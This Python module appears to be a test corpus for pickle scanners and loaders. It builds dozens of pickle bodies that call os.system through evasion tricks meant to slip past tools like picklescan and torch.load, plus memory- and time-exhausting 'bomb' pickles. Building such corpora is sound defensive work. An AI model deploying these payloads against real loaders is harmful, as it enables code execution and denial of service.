"""A corpus of pickles that try to run something when they are loaded.

Each entry is the body of a pickle that would touch a canary file if its reader called, imported or
looked up what the body names. Collected from published advisories about scanners and loaders of
pickles (picklescan, modelscan, fickling, `torch.load`), and from the opcodes' definitions.
"""

from __future__ import annotations

import pickle
import struct


def text(value: str) -> bytes:
    """A string, in the opcode that every protocol since the second has."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def global_name(dotted: str) -> bytes:
    """The name of a function, cut at its last dot."""
    module, _, name = dotted.rpartition(".")
    return b"c" + f"{module}\n{name}\n".encode()


def stack_global(dotted: str) -> bytes:
    """The same by two strings, which a scanner has to follow on the stack."""
    module, _, name = dotted.rpartition(".")
    return text(module) + text(name) + b"\x93"


def split_global(dotted: str) -> bytes:
    """The same cut at its first dot, so that the name has dots in it."""
    module, _, name = dotted.partition(".")
    return text(module) + text(name) + b"\x93"


def call(dotted: str, argument: str, name: bytes | None = None) -> bytes:
    """A call of a function with one string."""
    return (global_name(dotted) if name is None else name) + text(argument) + b"\x85R"


def calls(command: str) -> dict[str, bytes]:
    """Calls by every way of calling that the format has."""
    evil = global_name("os.system")
    one = text(command) + b"\x85"
    mark_and_argument = b"(" + text(command)
    return {
        "reduce": evil + one + b"R",
        "new object": evil + one + b"\x81",
        "new object with keywords": evil + one + b"}\x92",
        "object": b"(" + evil + text(command) + b"o",
        "instance": mark_and_argument + b"ios\nsystem\n",
        "name from the stack": stack_global("os.system") + one + b"R",
        "name with a dot": split_global("posix.system") + one + b"R",
        "name through another module": text("torch") + text("serialization.os.system") + b"\x93"
        + one + b"R",
        "name of many dots": text("collections") + text("abc.sys.modules") + b"\x93" + one + b"R",
        "name from the memo": text("os") + b"q\x070" + text("system") + b"q\x080h\x07h\x08\x93"
        + one + b"R",
        "name from a duplicate": text("posix") + b"20" + text("system") + b"\x93" + one + b"R",
        "name with spaces": b"c os\nsystem\n" + one + b"R",
        "name with a tab": b"cos\t\nsystem\n" + one + b"R",
        "function from a function": global_name("builtins.getattr") + global_name("os.path")
        + text("os") + b"\x86R" + text("system") + b"0" + one + b"R",
        "attribute of a module": global_name("builtins.getattr")
        + call("builtins.__import__", "os") + text("system") + b"\x86R" + one + b"R",
        "attribute of an enumeration": global_name("builtins.getattr") + global_name("os.environ")
        + text("system") + b"\x86R" + one + b"R",
        "result thrown away": evil + one + b"R0",
        "call without arguments": global_name("builtins.breakpoint") + b")R",
        "constructor of an ordinary class": global_name("copyreg._reconstructor") + evil
        + text(command) + b"N\x87R",
        "constructor by name": global_name("copyreg.__newobj__") + evil + text(command) + b"\x86R",
        "map over arguments": global_name("builtins.list")
        + global_name("builtins.map") + evil + b"]" + text(command) + b"a\x86R\x85R",
        "extension registry, short": b"\x82\x01" + one + b"R",
        "extension registry, middle": b"\x83\x01\x00" + one + b"R",
        "extension registry, long": b"\x84\x01\x00\x00\x00" + one + b"R",
        "persistent name": b"Pos.system\n",
        "persistent object": evil + one + b"RQ",
        "state of a function": evil + b"}" + text("__code__") + text(command) + b"sb",
        "state of a class": global_name("collections.OrderedDict") + b"}" + text("__reduce__")
        + evil + b"sb",
        "state that is called": call("my_training.Callback", "x") + evil + one + b"Rb",
        "bytes that are a pickle": global_name("pickle.loads")
        + b"C" + bytes([len(command)]) + command.encode() + b"\x85R",
        "bytes that torch would load": global_name("torch.storage._load_from_bytes")
        + b"C" + bytes([len(command)]) + command.encode() + b"\x85R",
        "rebuilt by another function": global_name("torch._tensor._rebuild_from_type_v2") + evil
        + global_name("torch.Tensor") + one + b"}" + b"(" + b"0" + b"tR",
        "rebuilt wrapper": global_name("torch._utils._rebuild_wrapper_subclass") + evil + one
        + b"\x86R",
        "numbers of NumPy": global_name("numpy.core.multiarray.scalar") + evil + one + b"R"
        + text("x") + b"\x86R",
        "out of band": b"\x97\x98",
    }  # fmt: skip


def proto(body: bytes) -> bytes:
    """The body as a whole pickle, with an empty dictionary as its result."""
    return b"\x80\x04" + body + b"0}."


def result(body: bytes) -> bytes:
    """The body as a whole pickle whose result is the body's."""
    return b"\x80\x04" + body + b"."


def bombs() -> dict[str, bytes]:
    """Pickles that cost a careless reader its memory or its time."""
    deep = b"(" * 200_000 + b"t" * 200_000
    laughs = b"]q\x00" + b"".join(
        b"](" + b"h" + bytes([i]) * 1 + (b"h" + bytes([i])) * 9 + b"eq" + bytes([i + 1])
        for i in range(60)
    )
    nested_key = b")q\x00" + b"".join(
        b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86q" + bytes([i + 1]) for i in range(60)
    )
    colliding = b"".join(
        b"\x8a\x0a" + (i * (2**61 - 1)).to_bytes(10, "little") + b"N" for i in range(60_000)
    )
    copies = (
        b"]("
        + b"N" * 20_000
        + b"eq\x00"
        + b"0"
        + (global_name("builtins.list") + b"h\x00\x85R0") * 20_000
    )
    return {
        "deep": deep,
        "laughs": laughs,
        "a key that is hashed forever": b"}" + nested_key + b"Ns",
        "keys that collide": b"}(" + colliding + b"u",
        "keys that collide in small numbers": b"}("
        + b"".join(b"J" + struct.pack("<i", i << 16) + b"N" for i in range(30_000)) + b"u",
        "copies of a long list": copies,
        "an integer of a million digits": b"\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6,
        "an integer of many digits": b"I" + b"9" * 10**6 + b"\n",
        "a string that claims a terabyte": b"\x8d" + struct.pack("<Q", 2**40) + b"x",
        "bytes that claim everything": b"\x8e" + struct.pack("<Q", 2**64 - 1),
        "a frame that claims a terabyte": b"\x95" + struct.pack("<Q", 2**40) + b"N",
        "a memo with a huge number": b"Nr\xff\xff\xff\xff",
        "a memo with a long number": b"Np" + b"9" * 20 + b"\n",
        "a memo that was never filled": b"h\x07",
        "an empty stack": b"R",
        "a mark that is never closed": b"(((",
        "many frames": (b"\x95" + bytes(8)) * 100_000 + b"N",
    }  # fmt: skip


def sound_table() -> bytes:
    """A pickle of an ordinary dictionary."""
    return pickle.dumps({"epoch": 3}, 2)
